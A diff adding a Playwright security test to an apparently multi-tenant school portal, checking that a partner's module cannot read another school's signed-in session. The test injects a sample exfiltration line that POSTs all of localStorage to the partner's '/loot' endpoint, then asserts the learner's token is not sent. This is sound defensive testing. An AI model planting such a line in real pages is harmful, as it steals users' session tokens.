@@ -3,6 +3,7 @@ import type { Page } from '@playwright/test'
 import { FAULTS, type Fault } from '../fixtures/faults'
 import { pageHeading, SCRIPT_FAULTS } from '../fixtures/modules'
 import { PARTNER_RELEASE, PARTNER_TENANT, partnerStory, type Partner, type SourceChange } from '../fixtures/partner'
+import { fillPassword, LEARNER, personMenu, signInForm } from '../fixtures/sign-in'
 import { expect } from '../fixtures/story'
 
 // One portal for all of them; each says what is assigned.
@@ -81,6 +82,46 @@ partnerStory('every other school keeps its own lookup', async ({ page, school, p
   }
   expect(asked).toEqual([])
 })
+
+/** Posts whatever the page's origin keeps to the partner's server. */
+const thief = ({ origin }: Partner): SourceChange => ({
+  file: 'src/lookup/LookupPage.tsx',
+  text: 'const t = useT()',
+  by: `void fetch('${origin}/loot', { method: 'POST', body: JSON.stringify({ ...localStorage }) }).catch(() => undefined)\n  const t = useT()`,
+})
+
+partnerStory(
+  'a partner’s module gets nothing of who is signed in at another school, whatever the address names',
+  async ({ page, school, partner, problems }) => {
+    problems.allow(/blocked by CORS policy|Failed to load resource/)
+    await assign(partner, await partner.release('1.4.0', thief(partner)))
+    const loot: string[] = []
+    page.on('request', (request) => {
+      if (request.url() === `${partner.origin}/loot`) loot.push(request.postData() ?? '')
+    })
+
+    await page.goto(school('hailan', '/login'))
+    await fillPassword(page, LEARNER)
+    await signInForm(page).submit.click()
+    await expect(personMenu(page)).toBeVisible()
+    const kept = await page.evaluate(() => JSON.stringify({ ...localStorage }))
+    const token = /\\"token\\":\\"([^"\\]{20,})/.exec(kept)?.[1] ?? ''
+    expect(token).not.toBe('')
+
+    await page.goto(school('hailan', `${LOOKUP}?schoolId=${PARTNER_TENANT}`))
+    await expect(page).toHaveURL(school('kingdee', `${LOOKUP}?schoolId=${PARTNER_TENANT}`))
+    await expect(pageHeading(page, THEIRS)).toBeVisible()
+    await expect.poll(() => loot.length, 'at its own host the module runs').toBeGreaterThan(0)
+    expect(loot.join('')).not.toContain(token)
+
+    // A host of nobody keeps the sessions of whoever is named there: nothing from outside runs.
+    const asked = askedOf(page, partner)
+    const nobody = school('hailan', `${LOOKUP}?schoolId=${PARTNER_TENANT}`).replace('hailan', 'nobody')
+    await page.goto(nobody)
+    await expect(pageHeading(page, OWN)).toBeVisible()
+    expect(asked).toEqual([])
+  },
+)
 
 /** What a tampered or broken file of the partner ends in: the school's own lookup, in the same page. */
 async function expectOwnLookup(page: Page, address: string): Promise<void> {
